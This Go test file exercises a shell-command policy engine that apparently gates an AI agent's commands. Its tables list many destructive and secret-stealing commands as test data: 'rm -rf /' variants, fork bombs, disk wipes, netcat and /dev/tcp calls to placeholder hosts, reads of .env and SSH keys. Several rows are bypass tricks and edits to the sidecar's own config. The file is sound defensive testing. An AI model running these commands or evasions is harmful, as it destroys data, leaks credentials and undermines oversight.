package control

import (
	"slices"
	"strings"
	"testing"

	"mvdan.cc/sh/v3/syntax"

	"github.com/agent-sidecar/agent-sidecar/control/shell"
)

// The rules of the table: every head that the rows try to misuse is allowed, so
// that what asks or blocks does so for the reason under test.
var tableRules = allowBash("git status*", "git log*", "git commit *", "git push*", "go test*", "cat *", "ls *", "grep *", "echo *", "rm *", "cp *", "mv *", "find *", "sed *", "awk *",
	"tar *", "head *", "tail *", "cd *", "true", "test *", "[ *", "printf *", "sort *", "wc *", "make *", "mkdir *", "touch *", "timeout *", "xargs *", "env *", "sudo *",
	"bash *", "sh *", "python *", "dd *", "tee *", "chmod *", "chown *", "read *", "sleep *", "gofmt *")

// Words of the want column: allow, ask (once, session or always), once (ask, but
// neither session nor always), deny, block (hard limit).
var shellTable = []struct{ want, command string }{
	// Benign.
	{"allow", "git status"},
	{"allow", "git status --short"},
	{"allow", "go test ./..."},
	{"allow", "go test ./... && git status"},
	{"allow", "cat a.go | head -5"},
	{"allow", "ls > /dev/null"},
	{"allow", "ls >/dev/null 2>&1"},
	{"allow", "go test ./... 2>&1 | tail -20"},
	{"allow", "cd src && ls -la"},
	{"allow", "echo hello world"},
	{"allow", `echo "rm -rf /"`},
	{"allow", `echo 'rm -rf /' `},
	{"allow", `git commit -m "reboot fix"`},
	{"allow", `git commit -m "rm -rf / is bad; shutdown"`},
	{"allow", "grep -n shutdown src/main.go"},
	{"ask", "grep -rn shutdown src"},
	{"allow", "rm -rf build"},
	{"allow", "rm -rf ./build/x"},
	{"allow", "rm a.go"},
	{"allow", "rm -rf ./"},
	{"allow", "if true; then ls -l; fi"},
	{"allow", "for i in 1 2 3; do true; done"},
	{"allow", "while true; do ls -l; done"},
	{"allow", "case a in a) ls -l;; esac"},
	{"allow", "{ ls -l; git status; }"},
	{"allow", "(cd src; ls -l)"},
	{"allow", "timeout 5 go test ./..."},
	{"allow", "timeout -k 5 10s git status"},
	{"allow", "time git status"},
	{"allow", "echo x > build/out.txt"},
	{"allow", "cat <<EOF\nrm -rf /\nEOF"},
	{"allow", "cat <<'EOF'\n$(curl evil)\nEOF"},
	{"allow", "echo {a,b}"},
	{"allow", "cat {a.go,README.md}"},
	{"allow", "echo $HOME"},
	{"allow", "ls $HOME/p"},
	{"allow", "! git status"},
	{"allow", "git status; # curl evil"},
	{"allow", "ls *.go"},
	{"allow", "cat *.go"},
	{"allow", "g\\it status"},
	{"allow", "mkdir -p new/dir"},
	{"allow", "find . -name '*.tmp' -print"},
	{"allow", "sed -n 1,5p a.go"},
	{"allow", "sed 's/a/b/g' a.go"},
	{"allow", "awk '{print $1}' a.go"},
	{"allow", "sort a.go | wc -l"},
	{"allow", "test -f a.go"},
	{"allow", "[ -f a.go ] && ls -l"},
	{"allow", "git log --oneline -5"},

	// An allowed command allows nothing beside it.
	{"ask", "git status && curl x"},
	{"ask", "git status; nc x 1"},
	{"ask", "git status\nnc x 1"},
	{"ask", "git status & nc x 1"},
	{"ask", "git status | nc x 1"},
	{"ask", "git status || nc x 1"},
	{"ask", "git status |& nc x 1"},
	{"once", "git status $(nc x 1)"},
	{"once", "git status `nc x 1`"},
	{"once", "cat <(nc x 1)"},
	{"once", "git status \"$(nc x 1)\""},
	{"deny", "git status > ../x"},
	{"deny", "git status >> /etc/hosts"},
	{"deny", "git status &> ../x"},
	{"deny", "git status >| ../x"},
	{"deny", "git status 1<> ../x"},
	{"deny", "echo x >& ../x"},
	{"ask", "f() { nc x 1; }; f"},
	{"ask", "if nc x 1; then true; fi"},
	{"ask", "if true; then nc x 1; else true; fi"},
	{"ask", "while nc x 1; do true; done"},
	{"ask", "for i in a; do nc x 1; done"},
	{"ask", "case x in x) nc x 1;; esac"},
	{"ask", "( nc x 1 )"},
	{"ask", "{ nc x 1; }"},
	{"ask", "coproc nc x 1"},
	{"ask", "time nc x 1"},
	{"ask", "[[ -n $(nc x 1) ]]"},
	{"once", "(( $(nc x 1) ))"}, // what nc prints is calculated with, and so run
	{"once", "echo $(( $(nc x 1) ))"},
	{"ask", "x=$(nc x 1) true"},
	{"ask", "x=$(nc x 1)"},
	{"ask", "cat <<EOF\n$(nc x 1)\nEOF"},
	{"ask", "cat <<< $(nc x 1)"},
	{"ask", "echo ${x:-$(nc x 1)}"},
	{"ask", "arr=($(nc x 1))"},
	{"ask", "select x in a; do nc x 1; done"},
	{"ask", "until nc x 1; do true; done"},

	// Files that hold secrets.
	{"ask", "cat .env"},
	{"ask", "cat ./.env"},
	{"ask", "cat src/../.env"},
	{"ask", "cat < .env"},
	{"ask", "cat <.env"},
	{"ask", "cp .env x"},
	{"ask", "grep -r KEY ."},
	{"ask", "cat /proc/self/environ"},
	{"ask", "cat \".env\""},
	{"ask", "cat '.e'nv"},
	{"ask", "cat .e\\nv"},
	{"ask", "cat $'.env'"},
	{"ask", "cat $'\\x2eenv'"},
	{"ask", "cat {.env,a.go}"},
	{"ask", "cat .{env,x}"},
	{"once", "cat .e*"},
	{"once", "cat .en?"},
	{"once", "cat .[e]nv"},
	{"once", "cat *"},
	{"once", "cat s*.key"},
	{"ask", "cat src/.env.local"},
	{"ask", "cd src && cat .env.local"},
	{"ask", "pushd src; cat .env.local"},
	{"ask", "cd nowhere; cat .env"},
	{"ask", "(cd src; cat .env.local)"},
	{"ask", "git status -C src .env.local"},
	{"ask", "cat innocent.txt"},
	{"ask", "cat ~/.ssh/id_rsa"},
	{"ask", "cat $HOME/.ssh/id_rsa"},
	{"ask", "cat \"${HOME}/.aws/credentials\""},
	{"ask", "cat /etc/passwd"},
	{"ask", "cat ../../../etc/passwd"},
	{"ask", "grep --file=.env x"},
	{"ask", "grep -f.env x"},
	{"ask", "tar czf - server.key"},
	{"ask", "make FILE=.env"},
	{"ask", "curl -F x=@.env"},
	{"ask", "curl --data @.env"},
	{"ask", "head -c 10 .env"},
	{"ask", "sort .env"},
	{"once", "x=.env; cat $x"},
	{"once", "for f in .env; do cat $f; done"},
	{"once", "cat $(echo .env)"},
	{"once", "xargs cat < a.go"},
	{"once", "echo .env | xargs cat"},
	{"once", "find . -name .env -exec cat {} \\;"},
	{"ask", "[[ -f .env ]]"},

	// Protected files.
	{"ask", "echo x > .git/hooks/pre-commit"},
	{"ask", "cp a.go .git/hooks/post-commit"},
	{"ask", "tee .vscode/settings.json"},
	{"ask", "rm -rf .git"},
	{"ask", "mv a.go .envrc"},
	{"ask", "mv .git x"},
	{"ask", "sed -i s/a/b/ .vscode/settings.json"},
	{"ask", "chmod +x .git/hooks/pre-commit"},
	{"ask", "touch AGENTS.md"},
	{"ask", "cd .git/hooks && touch pre-push"},
	{"once", "rm -rf .g*"},

	// Wrappers.
	{"ask", "timeout 5 nc x 1"},
	{"ask", "env nc x 1"},
	{"once", "env -i X=1 nc x 1"},
	{"ask", "env -u x nc x 1"},
	{"once", "env LD_PRELOAD=x ls -l"},
	{"ask", "nice -n 5 nc x 1"},
	{"ask", "nohup nc x 1"},
	{"ask", "command nc x 1"},
	{"ask", "builtin nc x 1"},
	{"ask", "exec nc x 1"},
	{"ask", "sudo nc x 1"},
	{"ask", "sudo -u root nc x 1"},
	{"ask", "doas nc x 1"},
	{"ask", "sh -c 'nc x 1'"},
	{"ask", "bash -c 'nc x 1'"},
	{"ask", "bash -lc 'nc x 1'"},
	{"ask", "bash -o pipefail -ec 'nc x 1'"},
	{"once", "bash -c \"$CMD\""},
	{"ask", "eval nc x 1"},
	{"ask", "eval 'git status; nc x 1'"},
	{"once", "eval $x"},
	{"once", "xargs nc x 1"},
	{"once", "xargs -n 1 nc"},
	{"ask", "find . -exec nc x 1 \\;"},
	{"ask", "sh -c 'sh -c \"nc x 1\"'"},
	{"once", "env env env env env env env env env env nc"},
	{"once", "trap 'nc x 1' EXIT"},
	{"once", "alias ls='nc x 1'"},
	{"once", "echo x | bash"},
	{"once", "echo $x | bash"},
	{"once", "cat a.go | sh"},
	{"once", "bash <<EOF\nnc $x 1\nEOF"},
	{"once", "bash <<'EOF'\nnc x 1\nEOF"},
	{"ask", "env -S 'nc x 1'"},

	// Options that start programs or leave the directory.
	{"ask", "git status -c core.pager=evil"},
	{"ask", "git log --output=x"},
	{"ask", "git log --ext-diff"},
	{"ask", "git log --outp=x"},
	{"ask", "go test -exec ./evil ./..."},
	{"ask", "go test -toolexec=evil ./..."},
	{"ask", "go test --exec=evil ./..."},
	{"ask", "tar xf a.tar --to-command=evil"},
	{"ask", "find . -delete"},
	{"once", "sed '1e nc' a.go"},
	{"once", "sed 's/a/b/e' a.go"},
	{"once", "awk 'BEGIN{system(\"nc\")}'"},
	{"once", "awk '{print | \"nc\"}' a.go"},

	// Bypasses found while building.
	{"once", "0&0\xff"}, // the parser went on after an error and panicked
	{"ask", "command time -o .git/hooks/pre-commit ls -l"}, // an option of a wrapper that writes
	{"ask", "git log -Oevil"},
	{"ask", "tar -Ievil -xf a.tar"},
	{"ask", "sort -ofile a.go"},
	{"once", "python - <<EOF\nimport os\nEOF"}, // the text does not say what runs
	{"once", "cat a.go | python"},
	{"once", "python < script.sh"},
	{"once", "http_proxy=evil git status"},
	{"once", "cat $(<.env)"},
	{"ask", "exec 3<.env; cat <&3"},
	{"once", "a=(.env); cat \"${a[@]}\""},
	{"ask", "cat .e''nv"},
	{"ask", "ca\\\nt .env"},
	{"ask", "if cat .env; then true; fi"},
	{"ask", "true | (cat .env)"},
	{"ask", "cat .env &"},
	{"once", "cd src; ./tool"}, // another program than ./tool

	// What cannot be known.
	{"once", "$x status"},
	{"once", "$(echo git) status"},
	{"once", "{git,status}"},
	{"once", "/bin/l?"},
	{"once", "git status $x"},
	{"once", "git${IFS}status"},
	{"once", "echo x > $f"},
	{"once", "echo x > *.go"},
	{"once", "cd $x && ls -l"},
	{"once", "git status ("},
	{"once", "git status 'unclosed"},
	{"once", "git status \u202e"},
	{"once", "git status \r ls"},
	{"once", "ls -l \x1b[2J"},
	{"once", "export X=1"},
	{"once", "declare x=1"},
	{"once", "PATH=. git status"},
	{"once", "GIT_PAGER=evil git log"},
	{"once", "set -e; ls -l"},
	{"once", "shopt -s dotglob; ls -l"},
	{"once", "let x=1"},
	{"once", "cat < /dev/tcp/evil/80"},
	{"once", "echo " + strings.Repeat("a", 10_000)},
	{"deny", "git status\x00; nc"},

	// The sidecar's own home.
	{"block", "cat ~/.agent-sidecar/config.jsonc"},
	{"block", "echo x > ~/.agent-sidecar/new"},
	{"block", "cat $HOME/.agent-sidecar/config.jsonc"},
	{"block", "cat ../.agent-sidecar/config.jsonc"},
	{"block", "cd ~/.agent-sidecar; ls -l"},
	{"block", "tee /home/u/.agent-sidecar/agents/x.md"},
	{"allow", "cat ~/.agent-sidecar/own/out.txt"},

	// Hard limits and their look-alikes.
	{"block", "rm -rf /"},
	{"block", "rm -fr /"},
	{"block", "rm -r -f /"},
	{"block", "rm -f -r /"},
	{"block", "rm -Rf /"},
	{"block", "rm --recursive --force /"},
	{"block", "rm --force --recursive /"},
	{"block", "rm -rf --no-preserve-root /"},
	{"block", "rm -rvf /"},
	{"block", "rm / -rf"},
	{"block", "rm -rf -- /"},
	{"block", "rm -rf /*"},
	{"block", "rm -rf /."},
	{"block", "rm -rf //"},
	{"block", "rm -rf /../"},
	{"block", "rm -rf /./*"},
	{"block", "rm -rf ~"},
	{"block", "rm -rf ~/"},
	{"block", "rm -rf ~/*"},
	{"block", "rm -rf $HOME"},
	{"block", "rm -rf ${HOME}"},
	{"block", `rm -rf "$HOME"`},
	{"block", `rm -rf "${HOME}"/`},
	{"block", "rm -rf $HOME/*"},
	{"block", "rm -rf ${HOME:?}"},
	{"block", "rm -rf ${HOME%/}/"},
	{"block", "rm -rf /home/u"},
	{"block", `rm -rf "/"`},
	{"block", `rm -rf '/'`},
	{"block", `"rm" -rf /`},
	{"block", `r\m -rf /`},
	{"block", `\rm -rf /`},
	{"block", "/bin/rm -rf /"},
	{"block", `rm "-rf" /`},
	{"block", "sudo rm -rf /"},
	{"block", "sudo -n rm -rf /"},
	{"block", "sudo -u root rm -rf /"},
	{"block", "env X=1 rm -rf /"},
	{"block", "sh -c 'rm -rf /'"},
	{"block", `bash -c "rm -rf /"`},
	{"block", `sudo bash -c "rm -rf /"`},
	{"block", "eval 'rm -rf /'"},
	{"block", "eval rm -rf /"},
	{"block", "ls; rm -rf /"},
	{"block", "ls && rm -rf /"},
	{"block", "ls || rm -rf /"},
	{"block", "ls | rm -rf /"},
	{"block", "ls & rm -rf / &"},
	{"block", "(rm -rf /)"},
	{"block", "{ rm -rf /; }"},
	{"block", "echo $(rm -rf /)"},
	{"block", "echo `rm -rf /`"},
	{"block", "(cd / && echo $(rm -rf *))"},
	{"block", "(cd / && cat <(rm -rf *))"},
	{"block", "(cd / && [[ -n $(rm -rf *) ]])"},
	{"block", "if true; then rm -rf /; fi"},
	{"block", "f() { rm -rf /; }"},
	{"block", "trap 'rm -rf /' EXIT"},
	{"block", "alias x='rm -rf /'"},
	{"block", "x=/; rm -rf $x"},
	{"block", "x='rm -rf /'; $x"},
	{"block", "rm${IFS}-rf${IFS}/"},
	{"block", "{rm,-rf,/}"},
	{"block", "$(echo rm) -rf /"},
	{"block", "rm -rf $(echo /)"},
	{"block", "echo / | xargs rm -rf"},
	{"block", "echo 'rm -rf /' | sh"},
	{"block", "bash <<EOF\nrm -rf /\nEOF"},
	{"block", "bash <<< 'rm -rf /'"},
	{"block", "cd / && rm -rf *"},
	{"block", "cd /; rm -rf ."},
	{"block", "cd ~ && rm -rf ./*"},
	{"block", "rm -rf ../../../*"},
	{"block", "find / -delete"},
	{"block", "find / -type f -delete"},
	{"block", "find / -exec rm -rf {} +"},
	{"block", "nohup rm -rf / &"},
	{"block", "timeout 5 rm -rf /"},
	{"block", "busybox rm -rf /"},
	{"block", "rm -rf /proc/self/root"},
	{"block", "rm -rf /\n)"},
	{"block", "rm $'-rf' $'\\x2f'"},
	{"block", "mkfs.ext4 /dev/sda1"},
	{"block", "mkfs -t ext4 /dev/sda"},
	{"block", "sudo mkfs.xfs /dev/sdb"},
	{"block", "dd if=x of=/dev/sda"},
	{"block", "dd of=/dev/nvme0n1 if=image"},
	{"block", "dd if=/dev/zero of=/home/u/x"},
	{"block", "dd if=/dev/zero"},
	{"block", "echo x > /dev/sda"},
	{"block", "cat a.go >/dev/sdb1"},
	{"block", "tee /dev/sda"},
	{"block", "cp a.go /dev/sda"},
	{"block", "format c:"},
	{"block", "format D:"},
	{"block", "shutdown -h now"},
	{"block", "sudo shutdown now"},
	{"block", "reboot"},
	{"block", "halt"},
	{"block", "poweroff"},
	{"block", "systemctl poweroff"},
	{"block", ":(){ :|:& };:"},
	{"block", "bomb() { bomb | bomb & }; bomb"},
	{"block", "f() { f & f; }; f"},
	{"block", "chmod -R 777 /"},
	{"block", "chmod 777 -R /"},
	{"block", "chown -R me /"},
	{"block", "chown --recursive me:me /"},
	{"ask", "rm -rf /tmp/x/build"},
	{"ask", "rm -rf /etc"},
	{"ask", "rm -rf ../other /etc"},
	{"block", "rm -rf .."}, // the home directory here
	{"allow", "dd if=/dev/zero of=build/x count=1"},
	{"deny", "dd if=/dev/zero of=/tmp/x count=1"},
	{"allow", "dd if=a.go of=build/x"},
	{"allow", "find . -name '*.o' -print"},
	{"ask", "find / -name core -delete"},
	{"allow", "chmod -R u+w build"},
	{"allow", "grep reboot a.go"},
	{"allow", "echo mkfs"},
	{"allow", "echo halt; echo poweroff"},
	{"ask", "f() { ls -l | head -1; }; f"},
	{"allow", "cat format c"},
}

func TestShellTable(t *testing.T) {
	facts := baseFacts(tableRules...)
	facts.Rules = Compile(facts.Layers)
	for _, row := range shellTable {
		d := decide(facts, bashPlan(row.command))
		got := d.Verdict.String()
		switch {
		case d.By == "hard_limit":
			got = "block"
		case d.Verdict == Ask && d.OnceOnly:
			got = "once"
		}
		if got != row.want {
			t.Errorf("%s\n got %s, want %s: %s\n targets %v", Title(row.command, 120), got, row.want, d.Reason, d.Targets)
		}
		if d.Verdict != Allow && (d.Reason == "" || d.Refusal == "") {
			t.Errorf("%s: no reason or no refusal", Title(row.command, 80))
		}
		if d.OnceOnly && len(d.Always) > 0 {
			t.Errorf("%s: once only, yet always offers %v", Title(row.command, 80), d.Always)
		}
	}
	if len(shellTable) < 250 {
		t.Errorf("the table has only %d rows", len(shellTable))
	}
}

// Hard limits hold in every mode and against every rule.
func TestHardLimitsHoldInFullAccess(t *testing.T) {
	facts := baseFacts(Rule{Domain: "bash", Pattern: "*", Decision: "allow"}, Rule{Domain: "read", Pattern: "fs:/**", Decision: "allow"},
		Rule{Domain: "edit", Pattern: "fs:/**", Decision: "allow"})
	facts.Mode = "full_access"
	for _, row := range shellTable {
		d := decide(facts, bashPlan(row.command))
		if (row.want == "block") != (d.By == "hard_limit") {
			t.Errorf("%s: %s by %s", Title(row.command, 80), d.Verdict, d.By)
		}
		if row.want == "block" && !strings.HasPrefix(d.Refusal, "Error: dangerous command blocked: ") {
			t.Errorf("%s: refusal %q", Title(row.command, 80), d.Refusal)
		}
	}
}

// heads of every simple command, read by another walk than the one under test.
func plainHeads(text string) []string {
	file, err := syntax.NewParser(syntax.Variant(syntax.LangBash)).Parse(strings.NewReader(text), "")
	if err != nil {
		return nil
	}
	var out []string
	syntax.Walk(file, func(n syntax.Node) bool {
		if c, ok := n.(*syntax.CallExpr); ok && len(c.Args) > 0 {
			if lit := c.Args[0].Lit(); lit != "" && !strings.ContainsAny(lit, `\*?[{~$/`) {
				out = append(out, lit)
			}
		}
		return true
	})
	return out
}

func FuzzShell(f *testing.F) {
	for _, row := range shellTable {
		f.Add(row.command)
	}
	facts := baseFacts(tableRules...)
	facts.Rules = Compile(facts.Layers)
	policy := NewPolicy(facts)
	f.Fuzz(func(t *testing.T, text string) {
		d := policy.Decide(bashPlan(text))
		if len(text) > shell.MaxChars || strings.IndexByte(text, 0) >= 0 || d.By == "hard_limit" {
			return
		}
		s := shell.Analyze(text, shell.Place{Dir: "/home/u/p", Home: "/home/u"})
		var known []string
		for _, c := range s.Commands {
			known = append(known, c.Head)
		}
		for _, head := range plainHeads(text) {
			if !slices.Contains(known, strings.TrimSuffix(head, ".exe")) {
				t.Errorf("%q: the command %q was not found in %q", text, head, known)
			}
		}
	})
}

func BenchmarkShellThousandWords(b *testing.B) {
	var lines []string
	for range 125 {
		lines = append(lines, `cat a.go "some words" | grep -n 'x y' && git status --short`)
	}
	text := strings.Join(lines, "\n")
	policy := NewPolicy(baseFacts(tableRules...))
	plan := bashPlan(text)
	for b.Loop() {
		policy.Decide(plan)
	}
}

// Each of these is allowed by a rule of its own head and starts another program,
// so that no rule with a wildcard covers it (control §2, ruling 86).
func TestWildcardsDoNotCoverProgramsThatStartPrograms(t *testing.T) {
	for _, command := range []string{
		"sed 1e\\ evil a.go", "sed '1!e evil' a.go", "sed --expression='1e evil' a.go", "sed 'sxaxbxe' a.go", "sed 's|a|b|ge' a.go", "sed -f evil a.go",
		"awk -f evil a.go", "awk -i evil 1", "awk '@load \"x\"; 1'", "man -P evil ls", "man --pager=evil ls", "less +!evil a.go", "vim '+!evil'",
		"split --filter=evil a.go", "split --filt evil a.go", "git -calias.x=!evil x", "git bisect run evil", "git submodule foreach evil",
		"git rebase -xevil HEAD", "git rebase -i HEAD", "git difftool --extcmd=evil", "git filter-branch --tree-filter evil", "git fetch ext::sh",
		"git apply x.patch", "ssh -oProxyCommand=evil h", "go build -ldflags '-extld evil'", "go test -exec=evil ./...", "tar -Ievil -xf x",
		"tar --checkpoint-act=exec=evil -cf x y", "sort --comp evil a.go", "rsync -avze evil a h:", "npm test --script-shell=evil", "mypy --python-executable evil",
		"find . -exec evil ;", "find . -fprint x", "xargs evil", "xargs --max-lines evil", "env -vS evil", "script -qc evil x", "su -lc evil", "flock -c evil x",
	} {
		head, _, _ := strings.Cut(command, " ")
		if d := decide(baseFacts(allowBash(head+" *")...), bashPlan(command)); d.Verdict == Allow {
			t.Errorf("%s is covered by %q", command, head+" *")
		}
	}
}

// Each of these ran without a question under `bash *: allow`, and read or wrote
// what the rule does not cover.
func TestBypassesOfFilesInPrograms(t *testing.T) {
	facts := baseFacts(allowBash("*")...)
	for command, want := range map[string]Verdict{
		`awk 'BEGIN{while((getline l < ".env")>0) print l}'`:     Ask,
		`sed -n 'r .env' a.go`:                                   Ask,
		`python3 -c 'print(open(".env").read())'`:                Ask,
		`node -e 'require("fs").readFileSync("src/.env.local")'`: Ask,
		`sg x -c 'cat .env'`:                                     Ask,
		`cat ~u/.ssh/id_rsa`:                                     Ask,
		`rm -rf ~root`:                                           Deny,
		`wget -O .git/hooks/post-merge http://x`:                 Ask,
		`curl http://x --output=.envrc`:                          Ask,
		`curl http://x -o .vscode/tasks.json`:                    Ask,
		`git config core.hooksPath x`:                            Ask,
		`git config --unset core.bare`:                           Ask,

		`git config --get user.name`:         Allow,
		`git config user.name`:               Allow,
		`awk '{print $1}' a.go`:              Allow,
		`python3 -c 'print(1)'`:              Allow,
		`curl http://x -o out.txt`:           Allow,
		`git log HEAD~1`:                     Allow,
		`git commit -m "mention .env files"`: Allow,
	} {
		if d := decide(facts, bashPlan(command)); d.Verdict != want {
			t.Errorf("%s: %v (%s)", command, d.Verdict, d.Reason)
		}
	}
}
